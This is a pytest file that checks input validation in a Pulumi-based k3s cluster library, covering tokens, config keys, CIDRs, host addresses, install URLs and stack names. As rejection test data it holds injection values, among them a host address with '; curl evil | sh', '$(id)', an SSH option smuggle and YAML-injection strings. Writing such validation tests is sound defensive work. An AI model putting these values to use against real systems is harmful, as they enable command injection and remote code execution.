"""Careless and hostile input (issue 12): refused before anything is registered, with the field
and the fix named, or (for values only known later) before any machine or node step exists."""

import asyncio

import pulumi
import pytest
from k3s_ha import ConfigError, K3sBootstrap, K3sCluster
from k3s_ha.aws.checks import world_open
from k3s_ha.validation import MAX_AGENTS, MAX_SERVERS
from support import engine
from support.helpers import SECRET_KEYS, USER_TOKEN, commands, config, refuse, stdin_yaml

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nhomelab\n-----END OPENSSH PRIVATE KEY-----"
OTHER_TOKEN = "agenttoken0123456789abcdefghijklmnopqrstuvwxyz0"


# --- tokens -----------------------------------------------------------------------------------


def test_token_equal_to_agent_token_is_refused():
    error = refuse(token=USER_TOKEN, agentToken=USER_TOKEN)
    assert error.field == "agentToken / agent_token"
    assert "same as token" in error.problem and "own value" in error.fix


@pytest.mark.parametrize("key", ["token", "agentToken"])
@pytest.mark.parametrize("suffix", ["\n", "\r\n", " "])
def test_a_token_with_a_trailing_newline_is_refused(key, suffix):
    error = refuse(**{key: (USER_TOKEN if key == "token" else OTHER_TOKEN) + suffix})
    assert error.field.startswith(key)
    assert "newline" in error.problem and "tr -d" in error.fix


def test_pinning_the_generated_tokens_to_their_values_changes_no_node_input():
    generated = engine.run(engine.main_program, config(), SECRET_KEYS)
    init = stdin_yaml(generated, "dev-server-0-start")
    pinned = engine.run(engine.main_program, config(token=init["token"], agentToken=init["agent-token"]), SECRET_KEYS)
    before, after = commands(generated), commands(pinned)
    assert before.keys() == after.keys()
    for name in before:
        for key in ("create", "delete", "stdin", "triggers", "connection"):
            assert before[name].inputs.get(key) == after[name].inputs.get(key), (name, key)


def _cluster_program(**args):
    def program():
        cluster = K3sCluster(
            "dev",
            {
                "ssh_private_key": pulumi.Output.secret(KEY),
                "ssh_public_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIstandin test@k3s-ha",
                "ssh_allowed_cidrs": ["203.0.113.7/32"],
                **{k: (v() if callable(v) else v) for k, v in args.items()},
            },
        )
        return {"kubeconfig": cluster.kubeconfig}

    return program


def late(value):
    """A secret known only some time into the deployment (like another resource's output): long
    after the machines could have been registered, unless they wait for the token check."""
    return lambda: pulumi.Output.secret(asyncio.sleep(0.5, value))


@pytest.mark.parametrize(
    "tokens",
    [
        {"token": late("K10" + "a" * 40)},
        {"agent_token": late("short")},
        {"token": late(USER_TOKEN), "agent_token": late(USER_TOKEN)},
    ],
)
def test_a_bad_token_given_as_an_output_stops_before_any_machine_or_node_step(tokens):
    with pytest.raises(Exception, match="token") as caught:
        engine.run(_cluster_program(**tokens))
    registered = {r.type for r in caught.value.registrations}
    assert "aws:ec2/instance:Instance" not in registered
    assert "command:remote:Command" not in registered


def test_good_output_tokens_still_build_the_cluster():
    run = engine.run(
        _cluster_program(
            token=lambda: pulumi.Output.secret(USER_TOKEN), agent_token=lambda: pulumi.Output.secret(OTHER_TOKEN)
        )
    )
    assert len(run.by_type("aws:ec2/instance:Instance")) == 3


# --- config keys, tags, CIDRs, counts ---------------------------------------------------------


def test_a_misspelt_config_key_is_refused_with_a_suggestion():
    error = refuse(servrs=5)
    assert error.field == "k3s-ha:servrs"
    assert "did you mean k3s-ha:servers" in error.fix and "pulumi config rm servrs" in error.fix


def test_an_unknown_key_without_a_near_match_is_refused_too():
    error = refuse(colour="blue")
    assert error.field == "k3s-ha:colour" and "ignored" in error.problem


def test_other_namespaces_are_left_alone():
    engine.run(engine.main_program, config(**{"aws:profile": "prod", "kubernetes:context": "x"}), SECRET_KEYS)


@pytest.mark.parametrize("value", [["team", "platform"], "team=platform", {"team": 7}])
def test_tags_that_are_not_a_map_are_refused(value):
    error = refuse(tags=value)
    assert error.field == "tags" and '--path "tags.team"' in error.fix


@pytest.mark.parametrize("cidr", ["2001:db8::/32", "::/0"])
def test_ipv6_cidrs_are_refused(cidr):
    error = refuse(sshAllowedCidrs=["203.0.113.7/32", cidr])
    assert error.field == "sshAllowedCidrs / ssh_allowed_cidrs" and "IPv6" in error.problem


def test_blocks_that_together_cover_the_internet_get_the_world_open_warning():
    run = engine.run(engine.main_program, config(sshAllowedCidrs=["0.0.0.0/1", "128.0.0.0/1"]), SECRET_KEYS)
    assert any("whole internet" in w and "sshAllowedCidrs" in w for w in run.warnings)


def test_world_open_merges_blocks_but_not_partial_coverage():
    import ipaddress

    nets = [ipaddress.ip_network(c) for c in ("0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2")]
    assert world_open(nets)
    assert not world_open(nets[:3])


def test_server_count_has_an_upper_bound():
    error = refuse(servers=MAX_SERVERS + 2)
    assert error.field == "servers" and "3, 5 or 7" in error.problem


def test_agent_count_has_an_upper_bound():
    error = refuse(agents=MAX_AGENTS + 1)
    assert error.field == "agents" and str(MAX_AGENTS) in error.fix


# --- K3sBootstrap inputs ----------------------------------------------------------------------


def _bootstrap(**extra):
    servers = extra.pop("servers", [{"name": f"pi-{i}", "address": f"192.0.2.{10 + i}"} for i in range(3)])

    def program():
        given = {k: (v() if callable(v) else v) for k, v in extra.items()}
        K3sBootstrap("lab", {"servers": servers, "ssh": {"user": "admin", "private_key": KEY}, **given})

    return program


def refuse_bootstrap(**extra) -> ConfigError:
    with pytest.raises(ConfigError) as caught:
        engine.run(_bootstrap(**extra))
    assert caught.value.registrations == []
    return caught.value


@pytest.mark.parametrize(
    "address",
    ["192.0.2.10; curl evil | sh", "host\nname", "a b", "", "k3s.example.com:22", "$(id)", "300.1.2.3", "-oProxy=x"],
)
def test_bootstrap_refuses_host_addresses_that_are_not_an_ip_or_dns_name(address):
    error = refuse_bootstrap(servers=[{"name": "pi-0", "address": address}])
    assert "servers[0].address" in error.field and "192.0.2.10" in error.fix


def test_bootstrap_accepts_ipv6_and_dns_addresses():
    engine.run(_bootstrap(servers=[{"name": "pi-0", "address": "2001:db8::10"}]))
    engine.run(_bootstrap(servers=[{"name": "pi-0", "address": "pi-0.lab.example."}]))


def test_bootstrap_refuses_a_host_name_with_a_trailing_newline():
    error = refuse_bootstrap(servers=[{"name": "pi-0\n", "address": "192.0.2.10"}])
    assert "DNS label" in error.problem


@pytest.mark.parametrize("key", ["api_address", "registration_address"])
@pytest.mark.parametrize("value", ["x\n    evil: true", "k3s.example.com/path", "https://k3s.example.com"])
def test_bootstrap_refuses_api_and_registration_addresses_that_could_inject_yaml(key, value):
    error = refuse_bootstrap(**{key: value})
    assert key in error.field


@pytest.mark.parametrize(
    "url, words",
    [
        ("http://get.k3s.io", "https"),
        ("ftp://get.k3s.io", "https"),
        ("get.k3s.io", "https"),
        ("https://user:secret@mirror.example/install.sh", "credentials"),
        ("https://mirror.example/install.sh'; id; '", "https"),
    ],
)
def test_bootstrap_refuses_an_install_url_that_is_not_plain_https(url, words):
    error = refuse_bootstrap(install_url=url)
    assert error.field == "installUrl / install_url"
    assert words in error.problem


def test_bootstrap_refuses_a_malformed_host_key():
    error = refuse_bootstrap(
        servers=[{"name": "pi-0", "address": "192.0.2.10", "host_key": "AAAAC3NzaC1lZDI1NTE5AAAA"}]
    )
    assert "host_key" in error.field and "ssh-ed25519" in error.fix


def test_a_bad_output_token_in_a_bootstrap_stops_before_any_node_step():
    with pytest.raises(ValueError, match="K10") as caught:
        engine.run(_bootstrap(token=late("K10" + "a" * 40)))
    assert [r.name for r in caught.value.registrations if r.type == "command:remote:Command"] == []


def test_an_api_address_known_only_at_deploy_time_is_checked_before_it_enters_the_kubeconfig():
    from k3s_ha.bootstrap.steps.kubeconfig import rewrite_server

    with pytest.raises(ConfigError, match="apiAddress / api_address"):
        rewrite_server(engine.SAMPLE_KUBECONFIG, "lb.example.com\n    evil: true")
    assert "server: https://lb.example.com:6443" in rewrite_server(engine.SAMPLE_KUBECONFIG, "lb.example.com")


def test_keys_the_cli_hands_over_in_pulumi_config_are_seen_too(monkeypatch):
    """`pulumi up` passes the stack config to the program as the PULUMI_CONFIG JSON."""
    import json

    from k3s_ha.stack_config import project_config_keys

    monkeypatch.setenv("PULUMI_CONFIG", json.dumps({"k3s-ha:servrs": "5", "aws:region": "eu-west-1"}))
    assert "servrs" in project_config_keys("k3s-ha")
    assert not any(":" in key for key in project_config_keys("k3s-ha"))


@pytest.mark.parametrize("bastion", ["bastion.example.com\n", "203.0.113.9:22", "user@203.0.113.9"])
def test_a_bastion_that_is_not_an_ip_or_dns_name_is_refused(bastion):
    error = refuse(bastionHost=bastion)
    assert error.field == "bastionHost / bastion_host"


# --- issue 18: accepted silently before, broken later -------------------------------------------


@pytest.mark.parametrize("stack", ["dev_", "my.stack-", "x" * 64, "-dev"])
def test_a_stack_name_that_cannot_label_the_nodes_is_refused(stack):
    """The cluster's name labels its Nodes (k3s-ha.io/cluster), which is how the day-2 steps
    tell its nodes and dead servers from others: the reconcile would die on every `up`."""
    with pytest.raises(ConfigError) as caught:
        engine.run(engine.main_program, config(), SECRET_KEYS, stack=stack)
    assert caught.value.registrations == []
    assert caught.value.field.startswith("the cluster's name") and "label value" in caught.value.problem
    assert "rename the stack" in caught.value.fix


def test_a_bootstrap_name_that_cannot_label_the_nodes_is_refused():
    def program():
        K3sBootstrap(
            "lab-",
            {"servers": [{"name": "pi-0", "address": "192.0.2.10"}], "ssh": {"user": "pi", "private_key": KEY}},
        )

    with pytest.raises(ConfigError) as caught:
        engine.run(program)
    assert caught.value.registrations == [] and "label value" in caught.value.problem


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("cluster-cidr", "10.0.128.0/17"),
        ("service-cidr", "10.43.0.0/16,10.0.0.0/24"),
        ("cluster-cidr", ["10.0.1.0/24"]),
    ],
)
def test_a_pod_or_service_network_overlapping_the_vpc_is_refused(key, value):
    error = refuse(serverConfig={key: value})
    assert error.field == "serverConfig / server_config"
    assert key in error.problem and "overlaps the VPC 10.0.0.0/16" in error.problem


def test_a_pod_network_outside_the_vpc_passes():
    engine.run(engine.main_program, config(serverConfig={"cluster-cidr": "10.52.0.0/16"}), SECRET_KEYS)


@pytest.mark.parametrize("value", [True, "true"])
def test_etcd_disable_snapshots_is_refused(value):
    error = refuse(serverConfig={"etcd-disable-snapshots": value})
    assert "etcd-disable-snapshots" in error.problem and "never leaves backups silently off" in error.problem


@pytest.mark.parametrize(
    ("server_config", "protocol", "ports"),
    [
        ({"flannel-backend": "wireguard-native"}, "udp", (51820, 51821)),
        ({"embedded-registry": True}, "tcp", (5001, 5001)),
    ],
)
def test_settings_that_need_more_ports_between_nodes_get_them(server_config, protocol, ports):
    """Issue 18: wireguard-native and the embedded registry need ports the fixed matrix does
    not open (docs.k3s.io installation/requirements): nodes may reach them from nodes only."""
    run = engine.run(engine.main_program, config(serverConfig=server_config), SECRET_KEYS)
    rule = run.named(f"dev-{protocol}-{ports[0]}")
    assert (rule.inputs["ipProtocol"], rule.inputs["fromPort"], rule.inputs["toPort"]) == (protocol, *ports)
    assert rule.inputs["referencedSecurityGroupId"] == rule.inputs["securityGroupId"] == "dev-nodes-id"
    assert "cidrIpv4" not in rule.inputs
    plain = engine.run(engine.main_program, config(), SECRET_KEYS)
    assert not [r for r in plain.registrations if r.name == f"dev-{protocol}-{ports[0]}"]


def test_ipv6_host_addresses_are_bracketed_in_every_url():
    """Issue 18: `https://2001:db8::10:6443` reads as a port; RFC 3986 brackets the address."""
    from support.helpers import stdin_yaml

    def program():
        boot = K3sBootstrap(
            "lab",
            {
                "servers": [{"name": f"s{i}", "address": f"2001:db8::1{i}"} for i in range(3)],
                "agents": [{"name": "a0", "address": "2001:db8::20"}],
                "ssh": {"user": "admin", "private_key": KEY},
            },
        )
        return {"endpoint": boot.api_endpoint, "kubeconfig": boot.kubeconfig}

    run = engine.run(program)
    assert run.outputs["endpoint"] == "https://[2001:db8::10]:6443"
    assert "server: https://[2001:db8::10]:6443" in run.outputs["kubeconfig"]
    assert stdin_yaml(run, "lab-s1-start")["server"] == "https://[2001:db8::10]:6443"
    assert stdin_yaml(run, "lab-a0-start")["server"] == "https://[2001:db8::10]:6443"
